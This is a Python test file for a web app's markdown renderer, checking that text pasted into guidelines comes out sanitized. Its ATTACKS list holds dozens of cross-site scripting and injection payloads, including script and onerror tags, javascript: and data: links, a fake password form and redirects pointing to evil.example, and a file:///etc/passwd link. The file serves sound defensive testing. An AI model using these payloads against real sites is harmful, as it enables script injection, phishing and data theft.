"""Whatever somebody pastes into a guideline comes out harmless: no script, no style, no image, no hidden way out."""

import html.parser
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from apps.datanets.core import limits, markdown

TAGS = {
    "a", "blockquote", "br", "code", "em", "h4", "h5", "h6", "hr", "li", "ol", "p", "pre", "s", "strong", "ul",
}  # fmt: skip
#: What is pasted to run a script, to load something, to look like the page, or to lead elsewhere unseen.
ATTACKS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=https://evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data='data:text/html;base64,PHNjcmlwdD4='></object>",
    "<embed src=//evil.example>",
    "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='https://evil.example' onclick=alert(1) style='position:fixed;inset:0'>x</a>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](\\\\evil.example)",
    "[x](/settings/keys/)",
    "[x](https:evil.example)",
    "[x](<javascript:alert(1)>)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](https://evil.example/track.png)",
    "![x](javascript:alert(1))",
    '![x](https://evil.example/x.png "onerror=alert(1)")',
    '[x](https://a.example "\\" onmouseover=alert(1) x=\\"")',
    '[x](https://a.example/"onmouseover="alert(1))',
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "# <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>",
    "**<b onmouseover=alert(1)>x</b>**",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<<script>script>alert(1)<</script>/script>",
    "<a id=content name=csrfmiddlewaretoken class=btn>x</a>",
    "\u202e<script>\u202c",
    "<p>\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
)


class Seen(html.parser.HTMLParser):
    """What a browser would make of it: its elements with their attributes."""

    def __init__(self, said: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.strange: list[str] = []
        self.feed(said)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.strange.append(data)

    def handle_decl(self, decl: str) -> None:
        self.strange.append(decl)

    def handle_pi(self, data: str) -> None:
        self.strange.append(data)

    def unknown_decl(self, data: str) -> None:
        self.strange.append(data)


def is_harmless(said: str) -> bool:
    """Known elements only; a link says where it leads and that we do not vouch for it; nothing else has attributes."""
    seen = Seen(said)
    for tag, attributes in seen.elements:
        if tag not in TAGS:
            return False
        if tag == "a" and "href" in attributes:
            href = str(attributes["href"]).lower()
            is_web = href.startswith(("http://", "https://", "mailto:")) and attributes["rel"] == (
                "nofollow noopener ugc"
            )
            if not is_web or attributes.keys() - {"href", "rel", "title"}:
                return False
        elif tag == "ol":
            if attributes.keys() - {"start"}:
                return False
        elif attributes.keys() - ({"rel"} if tag == "a" else set()):
            return False
    return not seen.strange


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize(
    "around",
    ["{}", "before {} after", "> {}", "- {}\n- more", "1. {}", "*{}*", "[{}](https://a.example)"],
)
def test_what_is_pasted_comes_out_harmless(attack: str, around: str) -> None:
    assert is_harmless(markdown.render(around.format(attack)))


@settings(max_examples=400)
@given(
    st.lists(st.sampled_from([*ATTACKS, "\n", "\n\n", "`", "*", "[", "](", ")", "<", ">", '"', "    ", "- "]))
)
def test_attacks_in_any_order_come_out_harmless(pieces: list[str]) -> None:
    assert is_harmless(markdown.render("".join(pieces)))


@settings(max_examples=200)
@given(st.text(max_size=200))
def test_any_text_can_be_rendered_and_read(text: str) -> None:
    assert is_harmless(markdown.render(text))
    assert "\n\n" not in markdown.plain(text)


def test_markdown_is_what_people_expect() -> None:
    said = markdown.render(
        "# A heading\n\nOne line\nanother, **strong** and *soft*.\n\n- one\n- two\n\n3. three\n\n~~gone~~"
    )
    assert "<h4>A heading</h4>" in said
    assert "One line<br>" in said
    assert "<strong>strong</strong>" in said
    assert "<li>one</li>" in said
    assert '<ol start="3">' in said
    assert "<s>gone</s>" in said


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("1", "4"), ("6", "4"), ("1 2 3", "4 5 6"), ("1 3", "4 5"), ("3 1 2", "4 4 5"), ("2 3 2 4", "4 5 4 5"),
        ("1 2 3 4 5 6", "4 5 6 6 6 6"), ("6 5 4", "4 4 4"),
    ],
)  # fmt: skip
def test_each_heading_stands_right_below_the_one_that_it_belongs_to(written: str, shown: str) -> None:
    text = "\n\n".join(f"{'#' * int(level)} It" for level in written.split())
    assert markdown.render(text) == "".join(f"<h{level}>It</h{level}>\n" for level in shown.split())


def test_a_link_to_the_open_web_is_a_link_that_nobody_vouches_for() -> None:
    said = markdown.render("[the guide](https://example.org/a?b=c#d)")
    assert said == (
        '<p><a href="https://example.org/a?b=c#d" rel="nofollow noopener ugc">the guide</a></p>\n'
    )


def test_an_image_becomes_a_link_that_one_may_follow() -> None:
    assert "<img" not in markdown.render("![a leaf](https://example.org/leaf.png)")
    assert ">a leaf</a>" in markdown.render("![a leaf](https://example.org/leaf.png)")


@pytest.mark.parametrize(
    "once",
    ["[", "*", "> ", "a\n", "`", "[a](", "|", "- ", "&", "<", "**a", "_a", "![[", "a|\n-|\n", "1. ", "\\", "~~a", "](",
     "<a ", "[a]: b\n", "&#x26;", "  \n", "# ", "***\n", "\t"],
)  # fmt: skip
def test_nothing_that_fits_into_guidelines_takes_long_or_grows_large(once: str) -> None:
    text = (once * limits.GUIDELINES_MOST)[: limits.GUIDELINES_MOST]
    began = time.process_time()
    said = markdown.render(text)
    assert time.process_time() - began < 3
    assert len(said) < 30 * limits.GUIDELINES_MOST


def test_plain_words_have_no_marks_and_a_line_for_each_thing() -> None:
    text = (
        "# Title\n\n**Good:** a [link](https://a.example)\nof two lines\n\n- one\n- `two`\n\n```\ncode\n```"
    )
    assert markdown.plain(text) == "Title\nGood: a link of two lines\none\ntwo\ncode"
